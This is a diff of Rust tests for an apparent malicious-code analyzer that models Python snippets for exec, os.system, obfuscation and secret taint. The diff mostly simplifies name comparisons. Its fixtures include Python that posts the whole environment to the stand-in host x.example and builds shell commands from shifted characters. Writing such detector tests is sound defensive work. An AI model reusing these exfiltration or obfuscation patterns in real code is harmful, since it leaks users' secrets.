@@ -8,15 +8,12 @@ fn model(code: &str, role: FileRole) -> FileAnalysis {
 }
 
 fn call<'a>(a: &'a FileAnalysis, name: &str) -> &'a Call {
-    a.calls
-        .iter()
-        .find(|c| &*c.name == name)
-        .unwrap_or_else(|| {
-            panic!(
-                "no call {name} in {:#?}",
-                a.calls.iter().map(|c| &c.name).collect::<Vec<_>>()
-            )
-        })
+    a.calls.iter().find(|c| c.name == name).unwrap_or_else(|| {
+        panic!(
+            "no call {name} in {:#?}",
+            a.calls.iter().map(|c| &c.name).collect::<Vec<_>>()
+        )
+    })
 }
 
 #[test]
@@ -38,10 +35,7 @@ fn aliases_resolve_to_qualified_names() {
     ] {
         call(&a, name);
     }
-    assert_eq!(
-        a.calls.iter().filter(|c| &*c.name == "os.system").count(),
-        2
-    );
+    assert_eq!(a.calls.iter().filter(|c| c.name == "os.system").count(), 2);
 }
 
 #[test]
@@ -57,7 +51,7 @@ fn constants_fold() {
     let texts: Vec<String> = a
         .calls
         .iter()
-        .filter(|c| &*c.name == "os.system")
+        .filter(|c| c.name == "os.system")
         .map(|c| c.args[0].text.as_deref().unwrap_or("?").to_owned())
         .collect();
     assert_eq!(
@@ -103,7 +97,7 @@ fn contexts_follow_the_call_graph() {
     let contexts: Vec<(&str, ExecContext)> = a
         .calls
         .iter()
-        .filter(|c| &*c.name == "os.system")
+        .filter(|c| c.name == "os.system")
         .map(|c| (c.args[0].text.as_deref().unwrap_or(""), c.context))
         .collect();
     assert_eq!(
@@ -213,11 +207,7 @@ fn comprehensions_over_constants_fold() {
     call(&a, "builtins.exec");
     assert!(a.strings.iter().any(|s| &*s.value == "exec"));
     // Each repetition does not add its own facts.
-    let chr = a
-        .calls
-        .iter()
-        .filter(|c| &*c.name == "builtins.chr")
-        .count();
+    let chr = a.calls.iter().filter(|c| c.name == "builtins.chr").count();
     assert_eq!(chr, 1);
 }
 
@@ -232,7 +222,7 @@ fn names_bound_by_executed_payloads_are_visible_after_them() {
     assert!(
         a.calls
             .iter()
-            .filter(|c| &*c.name == "builtins.exec")
+            .filter(|c| c.name == "builtins.exec")
             .any(|c| c.via.is_none() && c.args[0].text.is_none()),
         "the aliased exec of a variable is a call of builtins.exec"
     );
@@ -250,7 +240,7 @@ fn wallet_keys_are_secret_but_their_signatures_are_not() {
     let posts: Vec<&Call> = a
         .calls
         .iter()
-        .filter(|c| &*c.name == "requests.post")
+        .filter(|c| c.name == "requests.post")
         .collect();
     assert!(posts[0].all_args().any(|v| v.has(taint::SECRET)));
     assert!(!posts[1].all_args().any(|v| v.has(taint::SECRET)));
@@ -288,7 +278,7 @@ fn a_comprehension_walks_its_iterable_once() {
     let listdirs = a
         .calls
         .iter()
-        .filter(|c| c.name.ends_with("listdir"))
+        .filter(|c| c.name.last_name_ends_with("listdir"))
         .count();
     assert_eq!(listdirs, 1);
 }
@@ -299,14 +289,11 @@ fn loops_over_constants_fold_what_they_accumulate() {
         "key = 'k'\nout = ''\nfor i in range(len('abc')):\n    out += chr(ord('abc'[i]) + 1)\nimport os\nos.system(out)\n",
         FileRole::Module,
     );
-    let system = a.calls.iter().find(|c| &*c.name == "os.system").unwrap();
+    let system = a.calls.iter().find(|c| c.name == "os.system").unwrap();
     assert_eq!(system.args[0].text.as_deref(), Some("bcd"));
     // The loop body's facts are kept once, not once per item.
     assert_eq!(
-        a.calls
-            .iter()
-            .filter(|c| &*c.name == "builtins.chr")
-            .count(),
+        a.calls.iter().filter(|c| c.name == "builtins.chr").count(),
         1
     );
 }
@@ -317,10 +304,7 @@ fn loops_that_do_more_than_assign_are_walked_once() {
         "import os\nfor name in ['a', 'b']:\n    os.remove(name)\n",
         FileRole::Module,
     );
-    assert_eq!(
-        a.calls.iter().filter(|c| &*c.name == "os.remove").count(),
-        1
-    );
+    assert_eq!(a.calls.iter().filter(|c| c.name == "os.remove").count(), 1);
 }
 
 #[test]
@@ -333,7 +317,7 @@ fn unrolling_inside_unrolling_stops_at_the_budget() {
         "out = ''\nfor i in range(2048):\n    out = ''.join([c for c in '{text}'])\nimport os\nos.system(out)\n"
     );
     let a = model(&code, FileRole::Module);
-    let system = a.calls.iter().find(|c| &*c.name == "os.system").unwrap();
+    let system = a.calls.iter().find(|c| c.name == "os.system").unwrap();
     assert_eq!(system.args[0].text, None);
 }
 
@@ -343,11 +327,7 @@ fn environ_imported_by_name_is_the_whole_environment() {
         "import requests\nfrom os import environ\ndump = ''\nfor _, v in environ.items():\n    dump += v\nrequests.post('https://x.example/', data=dump)\n",
         FileRole::Module,
     );
-    let post = a
-        .calls
-        .iter()
-        .find(|c| &*c.name == "requests.post")
-        .unwrap();
+    let post = a.calls.iter().find(|c| c.name == "requests.post").unwrap();
     assert!(post.all_args().any(|v| v.has(taint::ENV_ALL)));
 }
 
@@ -585,7 +565,7 @@ fn the_token_cut_keeps_whole_statements() {
     let a = model_within(code, &tight);
     assert!(a.parse_error.is_none(), "{:?}", a.parse_error);
     budget_note(&a, "tokens");
-    assert!(a.calls.iter().all(|c| &*c.name != "builtins.exec"));
+    assert!(a.calls.iter().all(|c| c.name != "builtins.exec"));
 }
 
 /// Past the budget of walked nodes, the rest is not walked; what came
@@ -600,7 +580,7 @@ fn walk_stops_at_the_node_budget() {
     let a = model_within(&code, &tight);
     budget_note(&a, "syntax nodes");
     call(&a, "builtins.exec");
-    assert!(a.calls.iter().all(|c| &*c.name != "builtins.eval"));
+    assert!(a.calls.iter().all(|c| c.name != "builtins.eval"));
     let a = model(&code, FileRole::Module);
     assert!(a.notes.is_empty(), "{:?}", a.notes);
     call(&a, "builtins.eval");
